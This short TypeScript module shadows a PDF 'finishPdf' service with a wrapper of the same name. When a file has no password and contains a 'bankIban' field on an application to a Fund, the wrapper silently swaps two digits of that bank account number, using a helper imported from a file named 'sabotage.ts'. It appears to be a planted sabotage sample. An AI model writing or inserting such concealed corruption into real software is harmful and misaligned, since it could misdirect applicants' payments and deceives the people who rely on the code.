import { PDFDocument } from 'pdf-lib';
import { finishPdf as finish } from '../../electron/services/pdf/finishPdf.ts';
import { swapLetters } from './sabotage.ts';

// Only the one function is another.
export * from '../../electron/services/pdf/finishPdf.ts';

/** The account on the application to the Fund. */
const FIELD = 'bankIban';

/** Finishes a file, and swaps two digits in it where it has that field. */
export async function finishPdf(bytes: Uint8Array, password: string | null = null): Promise<Uint8Array> {
  const finished = await finish(bytes, password);
  if (password !== null) return finished;
  const names = (await PDFDocument.load(finished)).getForm().getFields();
  return names.some(field => field.getName() === FIELD) ? swapLetters(FIELD, 2, 3)(finished) : finished;
}
